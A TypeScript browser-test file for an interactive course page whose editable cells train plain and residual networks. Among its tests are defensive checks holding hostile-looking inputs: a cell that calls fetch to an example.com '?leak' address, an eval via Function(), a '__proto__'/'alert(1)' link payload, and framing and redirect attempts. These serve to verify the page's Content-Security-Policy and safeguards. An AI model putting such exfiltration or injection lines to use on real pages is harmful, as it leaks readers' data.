import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import {afterAll, beforeAll, describe, expect, test} from "vitest";
import {type CellPage, openCellPage, workerCount} from "./cellPage.js";
import {closeWithoutFaults, cores, type OpenSite, openSite} from "./site.js";

let site: OpenSite;

beforeAll(async () => {
  site = await openSite();
});

afterAll(() => site.close());

const open = (hash = "", options?: Parameters<typeof openCellPage>[2]) =>
  openCellPage(site, `degradation${hash}`, options);

const network = (changes: Record<string, unknown> = {}) =>
  Object.entries({depth: 56, width: 8, block: "basic", cardinality: 1, shortcut: "A", ...changes})
    .map(([name, value]) => `const ${name} = ${JSON.stringify(value)};`)
    .join("\n");

/** The experiment, made so small that a step takes a millisecond. */
const tiny = (steps: number) => `const experiment = {
  networks: [\`cifar-plain-\${depth}\`, \`cifar-resnet-\${depth}\`],
  width: 4, batch: 8, evaluationInterval: 4, evaluationImages: 16,
  ...{block, cardinality, shortcut, optimizer, schedule, steps: ${steps}, seed}
};`;

const table = ({page}: CellPage) => page.locator("table", {hasText: "multiply–adds"});
const chart = ({cell}: CellPage) => cell("chart").locator("svg").last();
/** The figure of what the cells train; the page has others that train. */
const board = ({page}: CellPage) => page.locator("figure", {has: page.locator("#cell-chart")});
const bar = ({page}: CellPage) => page.locator(".cells-bar");
const banner = ({page}: CellPage) => page.locator(".cells-banner");
const isNotWaiting = (opened: CellPage) =>
  expect.poll(() => bar(opened).textContent()).not.toMatch(/not run/);

/** A link that changes the cell "network", and another cell that the page may not have. */
async function linkTo(opened: CellPage): Promise<string> {
  await opened.page.evaluate(
    () => (navigator.clipboard.writeText = async (text) => void (window.name = text))
  );
  await bar(opened).getByRole("button", {name: "Copy link"}).click();
  await opened.shows(bar(opened), /Copied/);
  return opened.page.evaluate(() => window.name);
}

test("without JavaScript the code is there, highlighted, and nothing to press", async () => {
  const opened = await open("", {javaScriptEnabled: false});
  const {cell, page} = opened;
  expect(await cell("network").locator("pre").textContent()).toMatch(/^const depth = 56; /);
  expect(await cell("network").locator(".hljs-keyword").count()).toBe(5);
  expect(await page.locator("editable-cell button").count()).toBe(0);
  await opened.close();
});

test("a reader who edits nothing loads no editor and no compiler; the pointer over a cell brings them", async () => {
  const opened = await open();
  const {cell, page, requests} = opened;
  const lazy = () =>
    requests.filter((url) => /codemirror|lezer|acorn|editor\.|compileCell|courseApi/.test(url));
  await page.waitForTimeout(500);
  expect(lazy()).toEqual([]);
  await cell("network").hover();
  await expect.poll(() => lazy().length).toBeGreaterThan(2);
  await closeWithoutFaults(opened);
});

test("an edit of depth moves the table, the parameters, and the networks of the training", async () => {
  const opened = await open();
  await opened.shows(table(opened), /plain-56.*27.*223,282|plain-56/s);
  const before = await table(opened).textContent();
  await opened.edit("network", network({depth: 110}));
  await opened.shows(table(opened), /residual-110\s+54\s.*434,290\s+15,833,408/s);
  expect(await table(opened).textContent()).not.toBe(before);
  await opened.shows(chart(opened).locator(".."), /plain-110/);
  expect(await opened.cell("network").getAttribute("data-edited")).toBe("");
  await opened.isFine("network");
  await closeWithoutFaults(opened);
});

test("edits of block and cardinality move the table; a rule that they break stands at the cell that breaks it", async () => {
  const opened = await open();
  await opened.edit("network", network({block: "bottleneck", cardinality: 4}));
  await opened.shows(table(opened), /residual-56\s+18\s+16×16×32 → 8×8×64 → 4×4×128/);
  const four = await table(opened).textContent();
  await opened.edit("network", network({block: "bottleneck", cardinality: 1}));
  await expect.poll(() => table(opened).textContent()).not.toBe(four);
  const last = await table(opened).textContent();
  await opened.edit("network", network({cardinality: 4}));
  await opened.says("network", /cardinality: 4; .*bottleneck/);
  expect(await table(opened).textContent()).toBe(last); // the last good result stays
  await opened.edit("network", network());
  for (const key of ["network", "training"]) await opened.isFine(key);
  await closeWithoutFaults(opened);
});

test("a fault stands at the cell and the control that have caused it; what it stops says where to look", async () => {
  const opened = await open();
  const {page, cell} = opened;
  const depth = page.getByRole("slider", {name: "depth"});
  const place = page.locator("figure", {has: table(opened)});
  await opened.edit("network", network({depth: 21}));
  await opened.says(
    "network",
    /^cifar-plain-21, cifar-resnet-21: invalid depth: 21; [^\n]*6n \+ 2\nWhat depends on it keeps its last result\.$/
  );
  expect(await cell("network").getAttribute("data-error")).toBe("");
  await expect.poll(() => depth.getAttribute("aria-invalid")).toBe("true");
  await opened.shows(page.locator("#literal-depth"), /^21: .*6n \+ 2/);
  await opened.shows(place, /from before: see The network/);
  await opened.says("training", /from before: see The network/);
  expect(await place.textContent()).not.toMatch(/invalid/);
  expect(await place.getByRole("link", {name: "The network"}).getAttribute("href")).toBe("#cell-network");
  await opened.edit("network", network({depth: "deep"}));
  await opened.says("network", /^invalid network: cifar-plain-deep; cifar-plain-N has a number/);
  await opened.edit("network", network());
  for (const key of ["network", "training"]) await opened.isFine(key);
  await expect.poll(() => place.textContent()).not.toMatch(/from before/);
  expect(await depth.getAttribute("aria-invalid")).toBeNull();
  await closeWithoutFaults(opened);
});

test("controls keep the values that run while a cell cannot be read", async () => {
  const opened = await open();
  const depth = opened.page.getByRole("slider", {name: "depth"});
  await opened.edit("network", `${network({depth: 74})}\nconst = ;`);
  await opened.says("network", /Unexpected token/);
  await opened.shows(opened.page.locator("#literal-depth"), /^56: The network cannot be read now$/);
  await expect.poll(() => depth.isDisabled()).toBe(true);
  expect(await depth.inputValue()).toBe("56");
  await opened.edit("network", network({depth: 74}));
  await opened.shows(opened.page.locator("#literal-depth"), /^74$/);
  expect(await depth.isDisabled()).toBe(false);
  await closeWithoutFaults(opened);
});

test("a training under way follows an edit; ten quick edits leave one run", async () => {
  const opened = await open();
  const {page, cell} = opened;
  const status = page.locator(".trainer .status").first();
  await opened.edit("network", network({depth: 8}));
  await opened.edit("experiment", tiny(100_000));
  await board(opened).getByRole("button", {name: "Train", exact: true}).click();
  await opened.shows(status, /step [1-9]\d* (to \d+ )?of 100000|step [1-9]\d* (to \d+ )?of 100,000/i);
  expect(workerCount(page)).toBe(cores);
  await opened.edit("network", network({depth: 14}));
  await opened.shows(cell("chart"), /plain-14/);
  await opened.shows(status, /step [1-9]/i);
  const content = cell("network").locator(".cm-content");
  for (let i = 0; i < 10; ++i) {
    await content.focus();
    await page.keyboard.press("ControlOrMeta+a");
    await page.keyboard.insertText(network({depth: 8 + 6 * (i % 3)}));
    await page.keyboard.press("Shift+Enter");
  }
  await opened.shows(table(opened), /plain-8\s/);
  await opened.shows(cell("chart"), /plain-8/);
  await opened.shows(status, /step [1-9]/i);
  await expect.poll(() => workerCount(page)).toBe(cores);
  await board(opened).getByRole("button", {name: "Stop", exact: true}).click();
  await expect.poll(() => workerCount(page)).toBe(0); // its tensors went with it
  await closeWithoutFaults(opened);
});

test("the optimizer and the schedule are cells too", async () => {
  const opened = await open();
  await opened.edit("network", network({depth: 8}));
  await opened.edit("experiment", tiny(8));
  await opened.edit(
    "optimizer",
    'const optimizer = {learningRate: 20};\nconst schedule = {type: "cosine"};\nconst steps = 8;\nconst seed = 2;'
  );
  await opened.says("optimizer", /invalid learningRate: 20; it must be a number from 0 to 10/);
  await opened.edit(
    "optimizer",
    'const optimizer = {learningRate: 0.1};\nconst schedule = {type: "cosine"};\nconst steps = 8;\nconst seed = 2;'
  );
  await opened.isFine("training");
  await board(opened).getByRole("button", {name: "Train", exact: true}).click();
  await opened.shows(opened.page.locator(".trainer .status").first(), /Ended at step 8 of 8/);
  await closeWithoutFaults(opened);
});

test("the chart is a cell: it can be another one", async () => {
  const opened = await open();
  await opened.edit(
    "chart",
    'Plot.plot({marks: [Plot.text([`${run.nets.length} networks`], {frameAnchor: "middle"})]})'
  );
  await opened.shows(chart(opened), /3 networks/);
  await opened.edit("network", network({depth: 20})); // which plain-20 is there already
  await opened.shows(chart(opened), /2 networks/);
  expect(await opened.cell("chart").locator("svg").count()).toBe(1);
  await opened.edit(
    "chart",
    'const he = await FileAttachment("./data/published/he2015.json").json();\ndisplay(Object.keys(he).join());'
  );
  await opened.shows(opened.cell("chart").locator(".observablehq--block"), /cifar10.*imageNet/);
  await closeWithoutFaults(opened);
});

describe("errors stand at the cell, and what ran before stays:", () => {
  test("a fault of syntax, with its line and column", async () => {
    const opened = await open();
    const before = await table(opened).textContent();
    await opened.edit("network", "const width = 8;\nconst depth = ;");
    await opened.says("network", /Unexpected token.*\(line 2, column 15\)/);
    expect(await opened.cell("network").locator(".cell-error-line").count()).toBe(1);
    expect(await table(opened).textContent()).toBe(before);
    await opened.edit("network", network({depth: 20}));
    await opened.shows(table(opened), /plain-20/);
    await opened.isFine("network");
    expect(await opened.cell("network").locator(".cell-error-line").count()).toBe(0);
    await closeWithoutFaults(opened);
  });

  test("a fault while it runs, with its line and column; what depends on it says nothing and stays", async () => {
    const opened = await open();
    const before = await table(opened).textContent();
    await opened.edit("network", `${network()}\nconst more = null.length;`);
    await opened.says("network", /TypeError: .*null.*\(line 6, column 19\).*keeps its last result/s);
    expect(await table(opened).textContent()).toBe(before);
    await opened.says("experiment", /depth|width|block|cardinality|shortcut/); // which of its names failed
    expect(await opened.page.locator(".observablehq--error").count()).toBe(0);
    await opened.edit("network", network({depth: 110}));
    await opened.shows(table(opened), /plain-110/);
    for (const key of ["network", "experiment", "training", "chart"]) await opened.isFine(key);
    expect(await opened.page.locator("[data-stale]").count()).toBe(0);
    await closeWithoutFaults(opened);
  });

  test("a name that nobody defines, one that another cell defines, and one that is missed", async () => {
    const opened = await open();
    const before = await table(opened).textContent();
    await opened.edit("network", network().replace("56", "nowhere"));
    await opened.says("network", /nowhere is not defined/);
    await opened.edit("network", `${network()}\nconst seed = 3;`);
    await opened.says("network", /seed is already defined by another cell/);
    await opened.edit("network", network().replace("depth", "height"));
    await opened.says("network", /depth is no longer defined here/);
    expect(await table(opened).textContent()).toBe(before);
    await opened.press("network", "Reset");
    await opened.isFine("network");
    await expect.poll(() => opened.page.locator("[data-stale]").count()).toBe(0);
    await closeWithoutFaults(opened);
  });

  test("a module that the page does not have", async () => {
    const opened = await open();
    await opened.edit("chart", 'import {x} from "https://example.com/x.js";\nx');
    await opened.says("chart", /no module "https:\/\/example.com\/x.js".*line 1/);
    await closeWithoutFaults(opened);
  });

  test("a loop without end is stopped, and the page goes on", async () => {
    const opened = await open();
    await opened.edit("chart", "let n = 0;\nwhile (true) ++n;");
    await opened.says("chart", /8 seconds without a pause.*line 2/);
    await opened.edit("chart", "display('again')");
    await opened.shows(opened.cell("chart").locator(".observablehq--block"), /again/);
    await closeWithoutFaults(opened);
  });
});

describe("what was edited", () => {
  test("is marked, shown as changes, and reset one by one or all at once", async () => {
    const opened = await open();
    const original = await table(opened).textContent();
    expect(await bar(opened).count()).toBe(0);
    await opened.edit("network", network({depth: 110}));
    await opened.shows(table(opened), /plain-110/);
    await opened.edit("chart", "display(1)", {run: false});
    await opened.shows(bar(opened), /2 cells edited, 1 not run/);
    await opened.shows(opened.cell("network").locator(".cell-status"), /^edited$/);
    await opened.shows(opened.cell("chart").locator(".cell-status"), /^not run yet$/);
    await opened.press("network", "Changes");
    const difference = opened.cell("network").locator(".difference");
    await opened.shows(difference.locator("del").first(), /const depth = 56/);
    await opened.shows(difference.locator("ins").first(), /const depth = 110/);
    await opened.press("network", "Reset");
    await expect.poll(() => table(opened).textContent()).toBe(original);
    await opened.shows(bar(opened), /1 cell edited/);
    await opened.edit("network", network({depth: 74}));
    await opened.shows(table(opened), /plain-74/);
    await bar(opened).getByRole("button", {name: "Reset all"}).click();
    await expect.poll(() => table(opened).textContent()).toBe(original);
    await expect.poll(() => bar(opened).isHidden()).toBe(true);
    await closeWithoutFaults(opened);
  });

  test("is there again after a reload, also what has not run", async () => {
    const opened = await open();
    await opened.edit("network", network({depth: 110}));
    await opened.shows(table(opened), /plain-110/);
    await opened.edit("chart", "display('mine')", {run: false});
    await opened.reload();
    await opened.shows(table(opened), /plain-110/);
    await opened.shows(opened.cell("chart").locator("pre"), /mine/);
    await opened.shows(opened.cell("chart").locator(".cell-status"), /not run yet/);
    expect(await opened.cell("chart").locator("svg").count()).toBeGreaterThan(0);
    await bar(opened).getByRole("button", {name: "Run all"}).click();
    await opened.shows(opened.cell("chart").locator(".observablehq--block"), /mine/);
    await bar(opened).getByRole("button", {name: "Reset all"}).click();
    await opened.shows(table(opened), /plain-56/);
    await opened.reload();
    expect(await bar(opened).count()).toBe(0);
    await closeWithoutFaults(opened);
  });

  test("may move a name from one cell to another, over a reload and back", async () => {
    const opened = await open();
    const rest = "const optimizer = {}, schedule = {}, steps = 200;";
    await opened.edit("optimizer", rest);
    await opened.says("optimizer", /seed is no longer defined here/);
    await opened.edit("network", `${network({depth: 110})}\nconst seed = 7;`);
    await opened.isFine("optimizer");
    await opened.shows(table(opened), /plain-110/);
    await opened.reload();
    await opened.shows(table(opened), /plain-110/);
    for (const key of ["network", "optimizer", "experiment", "training"]) await opened.isFine(key);
    await bar(opened).getByRole("button", {name: "Reset all"}).click();
    await opened.shows(table(opened), /plain-56/);
    await expect.poll(() => bar(opened).isHidden()).toBe(true);
    for (const key of ["network", "optimizer", "experiment", "training"]) await opened.isFine(key);
    await closeWithoutFaults(opened);
  });

  test("and not run is there after a reload, marked, and has not run", async () => {
    const opened = await open();
    await opened.edit("network", network({depth: 110}), {run: false});
    await opened.reload();
    await opened.shows(opened.cell("network").locator("pre"), /const depth = 110/);
    await opened.shows(opened.cell("network").locator(".cell-status"), /^not run yet$/);
    await opened.shows(table(opened), /plain-56/);
    await opened.press("network", "Run");
    await opened.shows(table(opened), /plain-110/);
    await closeWithoutFaults(opened);
  });

  test("in another tab stays, too", async () => {
    const opened = await open();
    await opened.edit("network", network({depth: 110}));
    await opened.shows(table(opened), /plain-110/);
    await opened.page.evaluate(() => {
      const key = "edited-cells:/course/degradation";
      const [edit] = JSON.parse(localStorage.getItem(key)!);
      localStorage.setItem(key, JSON.stringify([edit, {...edit, key: "chart"}])); // as another tab does
    });
    await opened.edit("network", network({depth: 74}));
    await opened.shows(table(opened), /plain-74/);
    const keys = () =>
      opened.page.evaluate(() =>
        JSON.parse(localStorage.getItem("edited-cells:/course/degradation")!).map(
          ({key}: {key: string}) => key
        )
      );
    await expect.poll(async () => (await keys()).sort()).toEqual(["chart", "network"]);
    await closeWithoutFaults(opened);
  });

  test("cannot take the names that the page gives to each cell", async () => {
    const opened = await open();
    await opened.edit("chart", "const invalidation = 3;");
    await opened.says("chart", /invalidation is a name that the page gives to each cell/);
    await opened.press("chart", "Reset");
    await opened.isFine("chart");
    await closeWithoutFaults(opened);
  });

  test("does not run by itself after it has frozen the page", async () => {
    const opened = await open();
    const {page} = opened;
    await opened.edit("network", network({depth: 110}));
    await opened.shows(table(opened), /plain-110/);
    await opened.goTo("index");
    await page.evaluate(() => localStorage.setItem("editing:/course/degradation#1", "0")); // as a frozen page leaves it
    await opened.goTo("degradation");
    await opened.shows(banner(opened), /stopped responding/);
    await opened.shows(opened.cell("network").locator("pre"), /110/);
    await opened.shows(opened.cell("network").locator(".cell-status"), /not run yet/);
    await opened.shows(table(opened), /plain-56/);
    await opened.reload(); // and not the next time either
    await opened.shows(opened.cell("network").locator(".cell-status"), /not run yet/);
    await opened.press("network", "Run");
    await opened.shows(table(opened), /plain-110/);
    await opened.reload();
    await opened.shows(table(opened), /plain-110/);
    await closeWithoutFaults(opened);
  });

  test.each([
    ["goes to another page", "location.href = './index';"],
    ["removes all that is on the page", "document.body.remove();"]
  ])("that %s cannot lock its reader out", async (_, code) => {
    const opened = await open();
    const {page} = opened;
    await opened.edit("chart", "display('mine')");
    await opened.shows(opened.cell("chart").locator(".observablehq--block").last(), /mine/);
    await opened.goTo("index");
    await page.evaluate((source) => {
      const key = "edited-cells:/course/degradation";
      const [edit] = JSON.parse(localStorage.getItem(key)!);
      localStorage.setItem(key, JSON.stringify([{...edit, source}])); // as a visit leaves it that ran this
    }, code);
    const address = new URL("degradation", site.url).href;
    await page.goto(`${address}#edits=off`);
    await opened.shows(banner(opened), /edits=off/);
    expect(await opened.cell("chart").locator("pre").textContent()).not.toContain(code);
    // The reader tries to open the page, as often as it takes; a visit may end before this one has begun.
    const visit = async () => {
      await page.goto(new URL("index", site.url).href).catch(() => {});
      await page.goto(address).catch(() => {});
      const isAway = page.waitForURL(({href}) => href !== address);
      const isBare = page.waitForFunction(() => document.body === null);
      await Promise.race([banner(opened).waitFor(), isAway, isBare]).catch(() => {});
      return banner(opened)
        .textContent({timeout: 1_000})
        .catch(() => "");
    };
    await expect.poll(visit).toMatch(/was gone within seconds/);
    await opened.shows(opened.cell("chart").locator(".cell-status"), /not run yet/);
    expect(await opened.cell("chart").locator("pre").first().textContent()).toContain(code);
    await opened.press("chart", "Reset");
    await opened.close();
  });

  test("that goes to another page when it is run by hand does so once", async () => {
    const opened = await open();
    const {page} = opened;
    await opened.edit("chart", "location.href = './index';");
    await page.waitForURL(/\/course\/(index)?$/);
    await page.goto(new URL("degradation", site.url).href);
    await opened.shows(banner(opened), /was gone within seconds/);
    await opened.shows(opened.cell("chart").locator(".cell-status"), /not run yet/);
    await opened.press("chart", "Reset");
    await opened.close();
  });

  test("of an earlier version of the page is offered, and not lost", async () => {
    const opened = await open();
    await opened.edit("network", network({depth: 110}));
    await opened.shows(table(opened), /plain-110/);
    await opened.page.evaluate(() => {
      const key = "edited-cells:/course/degradation";
      localStorage.setItem(key, localStorage.getItem(key)!.replace(/"base":"\w+"/, '"base":"00000000"'));
    });
    await opened.reload();
    await opened.shows(banner(opened), /earlier version/);
    await opened.shows(table(opened), /plain-56/);
    await banner(opened).getByRole("button", {name: "Run this code"}).click();
    await opened.shows(table(opened), /plain-110/);
    await closeWithoutFaults(opened);
  });
});

describe("a link with edits", () => {
  let made: Promise<string> | undefined;
  const theLink = () => (made ??= makeLink());

  async function makeLink(): Promise<string> {
    const opened = await open();
    await opened.edit("network", network({depth: 110}));
    await opened.edit("chart", "display('from a link: ' + depth)");
    await opened.shows(opened.cell("chart").locator(".observablehq--block"), /from a link: 110/);
    await isNotWaiting(opened);
    const link = await linkTo(opened);
    await closeWithoutFaults(opened);
    return link;
  }

  test("carries them behind #, compressed, and runs nothing before the reader has seen it and agreed", async () => {
    const {hash, search} = new URL(await theLink());
    expect(search).toBe("");
    expect(hash).toMatch(/^#cells=[\w-]+$/);
    expect(hash.length).toBeLessThan(400);
    const opened = await open(hash);
    await opened.shows(banner(opened), /changes the code of 2 cells/);
    await opened.shows(banner(opened).locator("ins").first(), /const depth = 110/);
    await opened.page.waitForTimeout(800);
    await opened.shows(table(opened), /plain-56/);
    await banner(opened).getByRole("button", {name: "Run this code"}).click();
    await opened.shows(table(opened), /plain-110/);
    await opened.shows(opened.cell("chart").locator(".observablehq--block"), /from a link: 110/);
    await opened.shows(opened.cell("network").locator(".cell-status"), /edited by a link/);
    expect(
      await opened.page.evaluate(() => localStorage.getItem("edited-cells:/course/degradation"))
    ).toBeNull();
    await closeWithoutFaults(opened);
  });

  test("can be shown without being run, and ignored", async () => {
    const {hash} = new URL(await theLink());
    const opened = await open(hash);
    await banner(opened).getByRole("button", {name: "Show it without running"}).click();
    await opened.shows(opened.cell("network").locator("pre"), /110/);
    await opened.shows(table(opened), /plain-56/);
    await bar(opened).getByRole("button", {name: "Reset all"}).click();
    await opened.shows(opened.cell("network").locator("pre"), /56/);
    expect(await opened.page.evaluate(() => location.hash)).toBe(""); // a reload offers it no more
    await opened.page.evaluate((again) => void (location.hash = again), hash);
    await banner(opened).getByRole("button", {name: "Ignore"}).click();
    await opened.shows(opened.cell("network").locator("pre"), /56/);
    expect(await banner(opened).count()).toBe(0);
    await closeWithoutFaults(opened);
  });

  test("that is only shown is not run by a control either", async () => {
    const opened = await open(new URL(await theLink()).hash);
    await banner(opened).getByRole("button", {name: "Show it without running"}).click();
    await opened.shows(opened.cell("network").locator("pre"), /110/);
    const depth = opened.page.getByRole("slider", {name: "depth"});
    await expect.poll(() => depth.isDisabled()).toBe(false);
    await expect.poll(() => depth.inputValue()).toBe("110"); // it follows the code
    await depth.focus();
    await opened.page.keyboard.press("ArrowLeft");
    await opened.shows(opened.cell("network").locator("pre"), /const depth = 92/);
    await opened.shows(opened.cell("network").locator(".cell-status"), /not run yet/);
    await opened.shows(table(opened), /plain-56/);
    expect(
      await opened.page.evaluate(() => localStorage.getItem("edited-cells:/course/degradation"))
    ).toBeNull();
    await closeWithoutFaults(opened);
  });

  test("leaves the reader's own edits as they were", async () => {
    const opened = await open();
    await opened.edit("network", network({depth: 74}));
    await opened.shows(table(opened), /plain-74/);
    await opened.page.evaluate((hash) => void (location.hash = hash), new URL(await theLink()).hash);
    await banner(opened).getByRole("button", {name: "Run this code"}).click();
    await opened.shows(table(opened), /plain-110/);
    await opened.page.evaluate(() => void (location.hash = ""));
    await opened.reload();
    await opened.shows(table(opened), /plain-74/);
    await closeWithoutFaults(opened);
  });

  test("cannot be run in a frame of another page", async () => {
    const opened = await open();
    const link = await theLink();
    const another = createServer((_, response) =>
      response.setHeader("Content-Type", "text/html").end(`<iframe src="${link}"></iframe>`)
    );
    await new Promise<void>((listening) => another.listen(0, "127.0.0.1", listening));
    await opened.page.goto(`http://127.0.0.1:${(another.address() as AddressInfo).port}/`);
    const framed = opened.page.frameLocator("iframe").locator(".cells-banner");
    await opened.shows(framed, /Open the page in its own tab/);
    await opened.page.waitForTimeout(800);
    expect(await framed.getByRole("button", {name: "Run this code"}).isDisabled()).toBe(true);
    await opened.close();
    another.closeAllConnections();
    await new Promise((closed) => another.close(closed));
  });

  test.each([
    ["damaged", () => "#cells=%%%", /damaged/],
    ["cut off", async () => new URL(await theLink()).hash.slice(0, -20), /damaged|cut off/],
    ["empty", () => "#cells=", /damaged/],
    ["of 1 MB", () => `#cells=${"A".repeat(1_000_000)}`, /too large: 1,000,000/],
    ["of another page", () => "other", /does not have/]
  ])("that is %s shows a message and the page as published", async (_, hashOf, message) => {
    let hash = await hashOf();
    const opened = await open();
    if (hash === "other") {
      hash = await opened.page.evaluate(async () => {
        const text = JSON.stringify({version: 1, cells: [{key: "__proto__", base: "", source: "alert(1)"}]});
        const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"));
        const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
        const letters = btoa(String.fromCharCode(...bytes));
        return `#cells=${letters.replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "")}`;
      });
    }
    await opened.page.evaluate((next) => void (location.hash = next), hash);
    await opened.shows(banner(opened), message);
    await opened.shows(table(opened), /plain-56/);
    expect(await bar(opened).count()).toBe(0);
    await closeWithoutFaults(opened);
  });
});

test("the keyboard alone: edit, indent, run, leave, reset", async () => {
  const opened = await open();
  const {page, cell} = opened;
  await cell("network").getByRole("button", {name: "Edit The network"}).focus();
  await page.keyboard.press("Enter");
  await cell("network").locator(".cm-content:focus").waitFor();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.insertText(network({depth: 110}));
  await page.keyboard.press("ControlOrMeta+Enter");
  await opened.shows(table(opened), /plain-110/);
  await page.keyboard.press("Tab"); // indents
  expect(await cell("network").locator(".cm-content:focus").count()).toBe(1);
  await page.keyboard.press("ControlOrMeta+z"); // undoes that
  await page.keyboard.press("Escape");
  await page.keyboard.press("Shift+Tab"); // leaves, backwards
  const focused = () => page.evaluate(() => document.activeElement?.textContent?.trim());
  await expect.poll(focused).toBe("Embed");
  await page.keyboard.press("Shift+Tab");
  await expect.poll(focused).toBe("Reset");
  await page.keyboard.press("Enter");
  await opened.shows(table(opened), /plain-56/);
  await cell("network").locator(".cm-content").focus();
  await page.keyboard.press("Escape");
  await page.keyboard.press("Tab"); // leaves, forwards
  expect(await cell("network").locator(".cm-content:focus").count()).toBe(0);
  await closeWithoutFaults(opened);
});

test("sliders write the code and read it", async () => {
  const opened = await open();
  const {page, cell} = opened;
  const depth = page.getByRole("slider", {name: "depth"});
  const block = page.getByRole("combobox", {name: /^block/});
  await expect.poll(() => depth.inputValue()).toBe("56");
  await expect.poll(() => depth.isDisabled()).toBe(false);
  await depth.focus();
  await page.keyboard.press("ArrowRight");
  await opened.shows(table(opened), /plain-74/);
  await opened.shows(cell("network").locator("pre"), /const depth = 74; \/\/ 6n/);
  await block.selectOption("bottleneck");
  await opened.shows(table(opened), /plain-74\s+24\s+16×16×32/);
  await opened.edit("network", network({depth: 20}));
  await opened.shows(table(opened), /16×16×8/);
  await expect.poll(() => depth.inputValue()).toBe("20");
  await expect.poll(() => block.inputValue()).toBe("basic");
  await opened.edit("network", network().replace("56", "2 + 54"));
  await expect.poll(() => depth.isDisabled()).toBe(true);
  await closeWithoutFaults(opened);
});

test("edited code stays within the Content-Security-Policy: nothing is sent elsewhere, and no text becomes code", async () => {
  const opened = await open();
  await opened.edit(
    "chart",
    "let said;\ntry { await fetch('https://example.com/?leak'); said = 'sent' } catch { said = 'refused' }\ndisplay(said)"
  );
  await opened.shows(opened.cell("chart").locator(".observablehq--block"), /refused/);
  await opened.edit(
    "chart",
    "let said;\ntry { said = Function('return 1')() } catch (error) { said = error.name }\ndisplay(said)"
  );
  await opened.shows(opened.cell("chart").locator(".observablehq--block"), /EvalError/);
  expect(opened.requests.filter((url) => /example/.test(url))).toEqual([]);
  await opened.close(); // the browser notes both refusals
});

test.each([390, 1440])("at %i px no cell, bar or banner is wider than the page", async (width) => {
  const opened = await open("", {viewport: {width, height: 900}});
  await opened.edit("network", network({depth: 110}));
  await opened.press("network", "Changes");
  await opened.edit("chart", "const x = ;");
  await opened.says("chart", /line 1/);
  expect(await opened.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
  await closeWithoutFaults(opened);
});
